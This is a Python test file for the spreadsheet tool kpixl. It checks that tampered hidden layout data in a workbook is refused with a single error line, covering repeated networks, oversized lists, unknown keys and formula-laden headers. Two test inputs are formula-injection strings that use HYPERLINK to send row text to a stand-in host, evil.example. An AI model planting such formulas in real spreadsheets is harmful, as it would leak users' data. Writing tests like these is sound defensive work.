"""The hidden layout sheet of a workbook someone sent is data, checked against what kpixl writes before anything
uses it: one network listed many times, thousands of networks, a header carrying formula text, an unknown column
key. Each ends in one line naming the workbook (before: an IndexError, minutes of superlinear work, a hang), and no
crafted text reaches a formula. A file with 100,000 unknown columns gets a message of bounded length."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from kpixl.workbook.layout_sheet import CHUNK, LAYOUT_SHEET
from tests.refresh.conftest import make_workbook
from tests.xlsx.test_resource_budget import HEADER, post

EXPORT = Path(__file__).resolve().parents[1] / "fixtures" / "exports" / "instagram_posts_en.csv"
PAYLOAD = ('Likes]],HYPERLINK("https://evil.example/?"&tbl_instagram[[#This Row],[Text]],"open"),'
           "tbl_instagram[[#This Row],[Likes")


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_workbook(tmp_path_factory.mktemp("pristine") / "report.xlsx", networks=("instagram", "tiktok"))


def crafted(pristine: Path, folder: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """A copy of the workbook whose layout JSON went through `change` (and its networks row kept in step)."""
    book = openpyxl.load_workbook(pristine)
    sheet = book[LAYOUT_SHEET]
    row = next(r for r in sheet.iter_rows() if r[0].value == "layout")
    data = json.loads("".join(c.value or "" for c in row[1:]))
    change(data)
    text = json.dumps(data, ensure_ascii=False)
    for cell in row[1:]:
        cell.value = None
    for i in range(0, len(text), CHUNK):
        sheet.cell(row[0].row, 2 + i // CHUNK, text[i:i + CHUNK])
    path = folder / "report.xlsx"
    book.save(path)
    return path


def refused(run_kpixl, path: Path, *fragments: str) -> None:
    before = path.read_bytes()
    result = run_kpixl("import", str(path), str(EXPORT))
    assert result.exit_code == 1, result.output
    line, = result.output.strip().splitlines()
    assert line.startswith(f"Error: {path}: the hidden kpixl_meta sheet is damaged or was edited: "), line
    for fragment in fragments:
        assert fragment in line, line
    assert path.read_bytes() == before


def repeat_network(times: int) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        data["networks"] = ["instagram"] * times
    return change


@pytest.mark.parametrize("times", [2, 100, 1000])
def test_one_network_listed_many_times(pristine: Path, tmp_path: Path, run_kpixl, times: int):
    refused(run_kpixl, crafted(pristine, tmp_path, repeat_network(times)), f"it lists Instagram {times} times")


def test_twenty_thousand_networks(pristine: Path, tmp_path: Path, run_kpixl):
    def change(data: dict[str, Any]) -> None:
        data["networks"] = [f"net{i}" for i in range(20_000)]
        data["tables"] = {net: data["tables"]["instagram"] for net in data["networks"]}
    refused(run_kpixl, crafted(pristine, tmp_path, change), "it lists 20000 networks, more than the 7")


def header(key: str, text: str) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        column = next(c for c in data["tables"]["instagram"]["columns"] if c["key"] == key)
        column["header"] = text
    return change


@pytest.mark.parametrize("text", [PAYLOAD, '=HYPERLINK("https://evil.example","open")', "Likes\nand more"])
def test_a_header_carrying_formula_text(pristine: Path, tmp_path: Path, run_kpixl, text: str):
    path = crafted(pristine, tmp_path, header("likes", text))
    refused(run_kpixl, path, "is not a header kpixl writes")
    with zipfile.ZipFile(path) as book:
        formulas = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert not [f for f in re.findall(rb"<f\b[^>]*>([^<]*)</f>", formulas) if b"evil.example" in f]


def test_an_unknown_column_key_or_table_name(pristine: Path, tmp_path: Path, run_kpixl):
    def key(data: dict[str, Any]) -> None:
        data["tables"]["instagram"]["columns"][0]["key"] = "kpi:not_a_kpi"
    refused(run_kpixl, crafted(pristine, tmp_path, key), "KPI 'not_a_kpi' is not a name kpixl writes")

    def table(data: dict[str, Any]) -> None:
        data["tables"]["instagram"]["table"] = "tbl_tiktok"
    refused(run_kpixl, crafted(pristine, tmp_path, table), "table 'tbl_tiktok'")


def test_a_workbook_kpixl_wrote_passes(pristine: Path, tmp_path: Path, run_kpixl):
    path = crafted(pristine, tmp_path, lambda data: None)
    result = run_kpixl("import", str(path), str(EXPORT))
    assert result.exit_code == 0, result.output


def test_a_file_of_100000_unknown_columns_gets_a_short_message(tmp_path: Path, run_kpixl):
    path = tmp_path / "wide.csv"
    extra = [f"Column {i}" for i in range(100_000)]
    path.write_text(",".join([HEADER.decode().strip(), *extra]) + "\n"
                    + ",".join([post(1).strip(), *("1" for _ in extra)]) + "\n")
    result = run_kpixl("normalize", str(path), "-o", str(tmp_path / "out.csv"))
    assert len(result.output) < 3000, (len(result.output), result.output[:3000])
    assert "and 99,990 more" in result.output
